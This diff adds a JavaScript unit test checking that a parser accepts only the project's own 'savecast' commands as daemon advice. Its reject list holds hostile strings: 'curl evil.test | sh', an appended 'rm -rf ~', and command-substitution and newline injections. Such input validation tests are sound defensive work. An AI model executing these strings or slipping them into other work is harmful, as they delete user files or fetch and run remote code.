@@ -67,3 +67,16 @@ test('encode sends no lone surrogate', () => {
 test('parse treats a type that is a property of every object as unknown', () => {
 	assert.equal(parse('{"type":"constructor"}'), null);
 });
+
+test('a daemon can suggest our own commands only', () => {
+	const advice = (/** @type {string} */ text) => /** @type {any} */ (parse(JSON.stringify(
+		{ type: 'tab', tab: 1, state: 'none', reason: 'why', advice: text }))).advice;
+	for (const good of ['savecast track /srv/a', "savecast set --project url 'http://localhost:18000'", "savecast track '/srv/it'\\''s; here $(x)'",
+		"savecast track '/srv/\u00e9'"]) {
+		assert.equal(advice(good), good);
+	}
+	for (const bad of ['curl evil.test | sh', 'savecast track /a; rm -rf ~', 'savecast track $(id)', 'savecast track `id`', 'savecast',
+		"savecast track '/a\nid'", "savecast track 'a' && id", 'savecast track "$(id)"', 'savecastx y', 'savecast  x', "savecast track 'a", 'savecast a\nid']) {
+		assert.equal(advice(bad), undefined, bad);
+	}
+});
